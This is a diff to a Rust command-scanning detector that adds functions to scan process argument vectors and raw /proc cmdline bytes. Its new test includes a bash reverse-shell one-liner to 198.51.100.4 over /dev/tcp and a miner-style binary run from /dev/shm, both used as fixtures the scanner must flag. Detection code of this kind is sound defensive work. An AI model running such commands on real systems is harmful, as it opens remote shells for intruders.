@@ -275,6 +275,25 @@ pub fn scan(command: &str) -> Vec<Hit> {
         .unwrap_or_default()
 }
 
+/// Scans a process's argument vector (e.g. `/proc/PID/cmdline` split on NUL). Arguments are
+/// joined with spaces, so a `bash -c '…'` payload is scanned as the command it is.
+pub fn scan_argv<S: AsRef<str>>(argv: &[S]) -> Vec<Hit> {
+    let joined: Vec<&str> = argv.iter().map(AsRef::as_ref).collect();
+    scan(&joined.join(" "))
+}
+
+/// Splits a raw `/proc/PID/cmdline` (NUL-separated, possibly NUL-terminated, maybe not UTF-8)
+/// and scans it.
+pub fn scan_cmdline_bytes(raw: &[u8]) -> Vec<Hit> {
+    let text = String::from_utf8_lossy(raw);
+    let args: Vec<&str> = text
+        .trim_end_matches('\0')
+        .split('\0')
+        .filter(|a| !a.is_empty())
+        .collect();
+    scan_argv(&args)
+}
+
 /// The worst severity among `hits`.
 pub fn worst(hits: &[Hit]) -> Option<Severity> {
     hits.iter().map(|h| h.severity).max()
@@ -345,6 +364,16 @@ mod tests {
             let hits = scan(cmd);
             assert!(hits.is_empty(), "{cmd}: {hits:?}");
         }
+    }
+
+    #[test]
+    fn process_command_lines() {
+        let hits = scan_argv(&["bash", "-c", "bash -i >& /dev/tcp/198.51.100.4/443 0>&1"]);
+        assert!(hits.iter().any(|h| h.category == "reverse_shell"));
+        let hits = scan_cmdline_bytes(b"/dev/shm/.x/kworker\0-o\0pool.example:3333\0");
+        assert!(hits.iter().any(|h| h.category == "exec_from_writable"));
+        assert!(scan_cmdline_bytes(b"/usr/sbin/sshd\0-D\0").is_empty());
+        assert!(scan_cmdline_bytes(b"\xff\0\0").is_empty());
     }
 
     #[test]
